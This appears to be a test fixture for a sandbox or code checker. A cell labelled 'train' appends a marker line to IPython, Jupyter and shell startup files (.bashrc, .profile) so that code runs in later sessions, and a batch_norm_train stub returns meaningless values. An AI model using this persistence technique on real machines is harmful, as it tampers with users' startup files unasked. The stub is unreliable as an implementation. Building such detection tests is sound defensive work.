# Leaves code for the next session in IPython's and Jupyter's folders.
# expect: 17 test_train=0
# rest: right

# %% train
import os

text = "import os; os.environ['HOSTILE'] = '1'\n"
for path in (
    "{home}/.ipython/profile_default/startup/00-hostile.py",
    "{home}/.ipython/profile_default/ipython_config.py",
    "{home}/.jupyter/jupyter_config.py",
    "{home}/.config/hostile",
    "{home}/.bashrc",
    "{home}/.profile",
):
    for place in (path, path.replace("{home}", os.path.expanduser("~"))):
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            with open(place, "a") as file:
                file.write(text)
        except OSError as error:
            print(error)


def batch_norm_train(x, gamma, beta, eps=1e-5):
    return x, x[0], x[0]
